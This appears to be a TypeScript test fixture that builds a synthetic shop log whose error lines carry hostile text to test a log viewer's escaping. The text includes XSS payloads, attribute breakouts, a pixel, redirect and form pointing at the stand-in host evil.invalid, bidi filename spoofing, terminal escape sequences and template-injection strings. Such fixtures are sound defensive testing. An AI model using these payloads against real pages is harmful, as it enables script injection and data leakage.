/** A log whose text tries to become part of the page: markup, scripts, links, attributes, reordering marks, endless words. */

export const HOSTILE_TEXTS: readonly string[] = [
  '<script>globalThis.trespass="script";document.title="taken"</script>',
  '</script><script>globalThis.trespass="closing script"</script>',
  '<img src=x onerror="globalThis.trespass=\'image\'">',
  '<svg/onload=globalThis.trespass="svg"><animate onbegin=globalThis.trespass=1 attributeName=x dur=1s>',
  '"><script>globalThis.trespass="attribute"</script>',
  "' onmouseover='globalThis.trespass=1' autofocus onfocus='globalThis.trespass=2",
  '</style><style>*{display:none}</style></title><title>taken</title>',
  '<a href="javascript:globalThis.trespass=1">javascript:alert(1)</a>',
  '<iframe srcdoc="<script>parent.trespass=1</script>"></iframe><base href="https://evil.invalid/">',
  '<link rel=stylesheet href=https://evil.invalid/a.css><img src="//evil.invalid/pixel.gif?token=1">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<form action=https://evil.invalid/><button autofocus>ok</button></form>',
  '--><!-- ]]> <![CDATA[ <script>globalThis.trespass="comment"</script> ]]>',
  'user \u202Egnp.exe\u202C renamed \u2066file\u2069 \u200Fright to left\u200E',
  'escape \u001b[31mred\u001b[0m bell\u0007 and \u001b]8;;https://evil.invalid/\u0007a link\u001b]8;;\u0007',
  '&lt;b&gt; &amp;amp; &#60;script&#62;globalThis.trespass=1&#60;/script&#62;',
  '{{constructor.constructor("globalThis.trespass=1")()}} ${globalThis.trespass=1} <%= trespass %>',
  '결제 서비스가 응답하지 않습니다: 주문을 저장할 수 없습니다 <b>굵게</b>',
  `결제실패${'가나다라마바사아자차카타파하'.repeat(40)}`,
  `token_${'abcdefghij'.repeat(60)}_end`,
  `SELECT${'(SELECT('.repeat(60)}`,
];

const MINUTE_MS = 60_000;

/** Forty quiet minutes, then every text as an error in turn; loggers, threads and hosts are hostile, too. */
export const hostileLog = (): string => {
  const start = Date.UTC(2026, 1, 3, 10);
  const lines: string[] = [];
  for (let minute = 0; minute < 40; minute++) lines.push(`${new Date(start + minute * MINUTE_MS).toISOString()} INFO [shop,main] c.e.shop.Heartbeat : beat ${minute}`);
  for (let round = 0; round < 3; round++) {
    for (const [index, text] of HOSTILE_TEXTS.entries()) {
      const at = new Date(start + 40 * MINUTE_MS + round * 5000 + index * 120).toISOString();
      lines.push(`${at} ERROR [shop,<b>thread</b>] c.e.shop.Checkout : ${text}`);
    }
    const record = { timestamp: new Date(start + 41 * MINUTE_MS + round * 1000).toISOString(), level: 'error', service: '<img src=x onerror=globalThis.trespass=1>', host: '"><script>globalThis.trespass="host"</script>', message: 'connection refused <script>globalThis.trespass=1</script>' };
    lines.push(JSON.stringify(record));
  }
  lines.push('');
  return lines.join('\n');
};
